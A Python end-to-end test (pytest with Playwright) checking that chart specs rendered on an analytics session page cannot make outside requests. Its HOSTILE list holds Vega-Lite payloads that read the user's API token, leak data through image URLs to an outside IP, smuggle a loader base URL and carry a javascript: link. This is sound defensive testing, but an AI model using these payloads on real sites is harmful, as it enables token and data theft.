"""In a real browser: hostile charts on the session page make no request — vega-embed runs with a loader
that refuses everything, so even a spec that got past the server's cleaning loads nothing.

Every request the page makes is seen (Playwright's route and request events); anything that is not the
page itself or one of its own static files is recorded and aborted, so nothing leaves even if a check fails."""

import pytest

from analyzer import services
from analyzer.agent.plots import plot_spec_build
from analyzer.models import Message
from analyzer.tests.conftest import create_session

pytestmark = pytest.mark.e2e

ROWS = [{"symbol": "AAPL", "total": 29}, {"symbol": "TSLA", "total": 35}]
XY = {"x": {"field": "symbol", "type": "nominal"}, "y": {"field": "total", "type": "quantitative"}}
OUTSIDE = "http://198.51.100.7"

HOSTILE = [
    # A lookup that would read the user's API token into the chart.
    {"mark": "bar", "data": {"values": ROWS},
     "transform": [{"lookup": "symbol", "from": {"data": {"url": "/api/auth/token/"}, "key": "symbol",
                                                 "fields": ["token"]}}],
     "encoding": XY},
    # Image marks whose URL is built from the data, pointing outside.
    {"mark": {"type": "image", "width": 10, "height": 10}, "data": {"values": ROWS},
     "transform": [{"calculate": f"'{OUTSIDE}/leak?s=' + datum.symbol", "as": "img"}],
     "encoding": dict(XY, url={"field": "img", "type": "nominal"})},
    # Options smuggled in through usermeta: a loader with an outside base URL and a config to fetch.
    {"mark": "bar", "data": {"url": "data.json"},
     "usermeta": {"embedOptions": {"loader": {"baseURL": f"{OUTSIDE}/"}, "config": "/api/auth/token/"}},
     "encoding": XY},
    # Links to javascript: and data loaded from the platform's own API.
    {"mark": {"type": "bar", "href": "javascript:alert(1)"}, "data": {"url": "/api/analyzer/sessions/"},
     "encoding": dict(XY, href={"value": f"{OUTSIDE}/click"})},
]


def test_hostile_charts_make_no_request(live_platform, browser_page, login_page, user):
    session = create_session(user)
    for i, spec in enumerate(HOSTILE):  # stored as they are: what the browser alone must hold against
        services.message_add(session=session, kind=Message.Kind.PLOT,
                             data={"title": f"hostile {i}", "sql": "SELECT 1", "vega_lite_spec": spec})
    clean = plot_spec_build(spec=HOSTILE[1], rows=ROWS, columns=["symbol", "total", "img"], title="cleaned")
    services.message_add(session=session, kind=Message.Kind.PLOT,
                         data={"title": "cleaned", "sql": "SELECT 1", "vega_lite_spec": clean})
    clean_bar = plot_spec_build(spec={"mark": "bar", "encoding": XY}, rows=ROWS, columns=["symbol", "total"],
                                title="bar")
    services.message_add(session=session, kind=Message.Kind.PLOT,
                         data={"title": "bar", "sql": "SELECT 1", "vega_lite_spec": clean_bar})

    page = browser_page
    login_page(page, live_platform, user)
    session_url = live_platform.url + session.get_absolute_url()
    own_static = live_platform.url + "/static/"
    refused, seen = [], []

    def route(route_, request):
        url = request.url
        if url.startswith(own_static) or (request.resource_type == "document" and url.split("?")[0] == session_url):
            route_.continue_()
        else:
            refused.append(url)
            route_.abort()

    page.context.route("**/*", route)
    page.on("request", lambda request: seen.append(request.url))
    page.goto(session_url)
    page.wait_for_function(
        "() => { const plots = document.querySelectorAll('[data-testid=plot]');"
        " return plots.length === 6 && [...plots].every(p => p.dataset.rendered === '1'"
        " || p.textContent.startsWith('Could not render the chart')); }"
    )
    # The cleaned charts render with the refusing loader.
    rendered = page.locator("[data-testid=plot][data-rendered='1'] svg.marks")
    assert rendered.count() >= 2
    page.locator("[data-testid=plot][data-rendered='1'] svg.marks path").first.wait_for()
    # Links in the charts lead nowhere: the refusing loader declines to sanitize any href.
    assert page.locator("[data-testid=plot] svg.marks a").count() == 0
    assert refused == [], refused
    assert seen and all(url.startswith(own_static) or url.split("?")[0] == session_url for url in seen), seen
